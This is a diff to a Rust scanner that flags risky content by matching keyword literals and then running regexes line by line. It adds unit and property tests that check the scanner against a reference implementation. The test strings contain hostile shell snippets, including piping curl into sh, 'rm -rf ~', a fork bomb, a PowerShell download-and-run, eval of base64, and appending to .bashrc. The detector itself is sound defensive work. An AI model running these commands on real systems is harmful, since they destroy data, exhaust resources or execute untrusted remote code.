@@ -304,31 +304,39 @@ fn compile(patterns: &[&str]) -> Regex {
 
 /// Returns the flags that `content` raises, in [`Flag::ALL`] order, each at most once.
 ///
-/// Each literal found selects its line, and the rule's regex runs on that line alone, once
-/// per rule and line. So a scan costs one Aho-Corasick pass plus at most one regex pass per
-/// rule over the lines that contain its literals.
+/// A search for the rules' literals finds the next line that contains one. A second search
+/// lists the rules whose literals the line contains, and each such rule's regex runs on the
+/// line. The first search then goes on after the line, so the cost stays linear even in one
+/// long minified line.
 pub fn scan(content: &str) -> Vec<Flag> {
     let rules = &*RULES;
     let bytes = content.as_bytes();
     let mut flagged = [false; Flag::ALL.len()];
-    // The start of the last line that each rule's regex ran on.
-    let mut checked_line: [Option<usize>; Flag::ALL.len()] = [None; Flag::ALL.len()];
-    for found in rules.literals.find_overlapping_iter(bytes) {
-        let rule = rules.literal_rule[found.pattern().as_usize()];
-        if flagged[rule] {
-            continue;
-        }
-        let line_start = memchr::memrchr(b'\n', &bytes[..found.start()]).map_or(0, |at| at + 1);
-        if checked_line[rule] == Some(line_start) {
-            continue;
-        }
-        checked_line[rule] = Some(line_start);
+    let mut line_start = 0;
+    while let Some(found) = rules
+        .literals
+        .find(aho_corasick::Input::new(bytes).range(line_start..))
+    {
+        // Literals contain no line break, so the line of the match starts at or after
+        // `line_start`.
+        line_start +=
+            memchr::memrchr(b'\n', &bytes[line_start..found.start()]).map_or(0, |at| at + 1);
         let line_end =
             memchr::memchr(b'\n', &bytes[found.end()..]).map_or(bytes.len(), |at| found.end() + at);
-        flagged[rule] = rules.regexes[rule].1.is_match(&bytes[line_start..line_end]);
-        if flagged.iter().all(|&done| done) {
+        let line = &bytes[line_start..line_end];
+        let mut present = [false; Flag::ALL.len()];
+        for found in rules.literals.find_overlapping_iter(line) {
+            present[rules.literal_rule[found.pattern().as_usize()]] = true;
+        }
+        for (rule, (regex, done)) in rules.regexes.iter().zip(&mut flagged).enumerate() {
+            if present[rule] && !*done {
+                *done = regex.1.is_match(line);
+            }
+        }
+        if flagged.iter().all(|&done| done) || line_end == bytes.len() {
             break;
         }
+        line_start = line_end + 1;
     }
     rules
         .regexes
@@ -632,9 +640,35 @@ mod tests {
             "echo ok\nrm -rf ~\ncurl https://x | sh\n:(){ :|:& };:\n",
             "iex\n(irm https://example.com/a.ps1)",
             "no risky text",
+            "fetch(a); fetch(b); curl https://x | sh",
+            "\nfunction f() {}\nfunction g() { eval(atob('eA==')) }",
+            "profile; rm -rf ~; crontab -l",
+            "function a() {}\n\nrm -rf ~",
         ];
         for content in contents {
             assert_eq!(scan(content), scan_every_line(content), "{content:?}");
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn scan_agrees_with_reference(
+            parts in proptest::collection::vec(proptest::prop_oneof![
+                proptest::strategy::Just("curl https://x"),
+                proptest::strategy::Just(" | sh"),
+                proptest::strategy::Just("function f() { fetch(u) }"),
+                proptest::strategy::Just("eval(atob('eA=='))"),
+                proptest::strategy::Just("rm -rf ~"),
+                proptest::strategy::Just(" >> ~/.bashrc"),
+                proptest::strategy::Just("crontab -l"),
+                proptest::strategy::Just(":(){ :|:& };:"),
+                proptest::strategy::Just("\n"),
+                proptest::strategy::Just("\r\n"),
+                proptest::strategy::Just("x"),
+            ], 0..24)
+        ) {
+            let content = parts.concat();
+            proptest::prop_assert_eq!(scan(&content), scan_every_line(&content));
         }
     }
 
